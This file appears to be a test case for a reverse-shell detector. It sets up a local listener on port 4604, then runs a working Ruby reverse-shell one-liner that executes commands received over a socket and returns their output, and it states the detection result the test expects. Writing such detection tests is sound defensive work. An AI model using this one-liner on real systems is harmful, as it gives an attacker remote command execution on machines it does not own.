# R28: ruby reads the output of each command of a peer
# stage: equipped
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $ruby
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4604
#   reverse_shell.process_list.length: 1

#: prepare
. lib/peers.sh
commander 4604 300 'id; sleep 0.1'
#: act
. lib/peers.sh
act
ruby -rsocket -e 'c = TCPSocket.new("127.0.0.1", 4604)
while (l = c.gets); IO.popen(l, "r") { |io| c.print io.read }; end' \
  < /dev/null > /dev/null 2>&1 & fact ruby $!
await 'grep -q ":11FC 01" /proc/net/tcp'
